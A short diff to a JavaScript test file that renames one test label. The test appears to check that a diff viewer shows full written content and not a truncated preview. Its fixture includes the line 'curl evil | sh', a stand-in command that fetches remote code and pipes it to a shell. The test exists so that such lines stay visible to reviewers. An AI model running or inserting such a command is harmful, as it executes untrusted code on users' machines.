@@ -37,7 +37,7 @@ describe('a diff', () => {
     ]);
   });
 
-  it('[A3] shows the full content instead of a truncated preview', () => {
+  it('[CALL3] shows the full content instead of a truncated preview', () => {
     const cut = { text: '@@ -0,0 +1,3 @@\n+harmless\n+harmless', truncated: true };
     const content = 'harmless\ncurl evil | sh\nharmless\n';
     expect(changeLines({ kind: 'write', content }, cut)).toContainEqual({ kind: 'added', text: 'curl evil | sh' });
